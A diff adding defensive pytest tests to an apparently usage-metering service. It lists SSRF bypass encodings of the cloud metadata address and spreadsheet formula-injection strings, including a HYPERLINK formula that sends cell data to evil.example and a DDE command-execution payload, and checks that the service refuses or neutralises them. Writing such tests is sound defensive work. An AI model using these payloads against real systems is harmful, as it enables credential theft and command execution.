@@ -85,3 +85,68 @@ def test_link_local_webhooks_can_be_allowed_by_setting(settings, store):
         r = c.post("/v1/budgets", json={"scope": {"all": True}, "amount": "1",
                                         "webhook_url": "http://169.254.10.10/hook"}, headers=auth(ADMIN))
         assert r.status_code == 201
+
+
+EMBEDDED_METADATA = [
+    "http://[::a9fe:a9fe]/x",  # IPv4-compatible
+    "http://[::ffff:a9fe:a9fe]/x",  # IPv4-mapped
+    "http://[64:ff9b::a9fe:a9fe]/x",  # NAT64, well-known prefix
+    "http://[64:ff9b:1:a9fe:a9:fe00::]/x",  # NAT64, local-use /48 (RFC 6052 layout)
+    "http://[64:ff9b:1::a9fe:a9fe]/x",  # NAT64, local-use /96
+    "http://[2002:a9fe:a9fe::1]/x",  # 6to4
+    "http://[2001:0:4136:e378:8000:63bf:5601:5601]/x",  # Teredo, client 169.254.169.254
+    "http://2852039166/x", "http://0xa9fea9fe/x", "http://0251.0376.0251.0376/x", "http://169.254.43518/x",
+]
+
+
+@pytest.mark.parametrize("url", EMBEDDED_METADATA)
+def test_webhook_urls_embedding_a_metadata_address_are_refused_at_creation_and_delivery_issue_11(client, url):
+    r = client.post("/v1/budgets", json={"scope": {"all": True}, "amount": "1", "webhook_url": url},
+                    headers=auth(ADMIN))
+    assert r.status_code == 400 and "webhook_url" in r.json()["error"]["message"], r.text
+
+    from metering.services.delivery import WebhookRefused, pin_address
+
+    with pytest.raises(WebhookRefused, match="link-local or metadata"):  # resolved by the system's resolver
+        pin_address(url, allow_link_local=False)
+
+
+HOSTILE_IDS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)",
+               '=1+1']
+
+
+def test_xlsx_exports_hold_data_as_text_never_as_formulas_issue_11(client, two_keys, tmp_path):
+    import zipfile
+
+    from openpyxl import load_workbook
+
+    for i, hostile in enumerate(HOSTILE_IDS):
+        for n, model in enumerate((hostile, "minimax-m2-7")):  # unpriced (daily report) and priced (statement)
+            r = client.post("/v1/usage", json=record(f"x{i}-{n}", model=model, api_key_id=hostile), headers=auth(INGEST))
+            assert r.status_code == 200, r.text
+    for path, params in (("/v1/reports/daily", {"start": "2026-11-01", "end": "2026-11-26", "group_by": "api_key_id,model"}),
+                         ("/v1/reports/statement", {"account": "unassigned", "month": "2026-11"})):
+        r = client.get(path, params={**params, "format": "xlsx"}, headers=auth(ADMIN))
+        assert r.status_code == 200, r.text
+        target = tmp_path / "doc.xlsx"
+        target.write_bytes(r.content)
+        with zipfile.ZipFile(target) as z:
+            sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/")]
+        assert sheets and not any("<f>" in s or "<f " in s for s in sheets), path
+        values = {c.value for row in load_workbook(target).active.iter_rows() for c in row}
+        for hostile in HOSTILE_IDS:  # the key ids (in both documents) are strings, as sent
+            assert hostile in values, (path, hostile)
+
+
+def test_focus_tags_are_json_whatever_the_account_is_called_issue_11(client, tmp_path):
+    import json
+
+    import polars as pl
+
+    weird = 'we"ird\\acct\n{,}'
+    client.post("/v1/keys", json={"api_key_id": "k-weird", "account_id": weird}, headers=auth(ADMIN))
+    assert client.post("/v1/usage", json=record("w1", api_key_id="k-weird"), headers=auth(INGEST)).status_code == 200
+    r = client.get("/v1/reports/focus", params={"start": "2026-11-01", "end": "2026-11-26"}, headers=auth(ADMIN))
+    frame = pl.read_csv(r.content, infer_schema_length=0)
+    tags = [json.loads(t) for t in frame["Tags"]]
+    assert {t["metering/account"] for t in tags} == {weird}
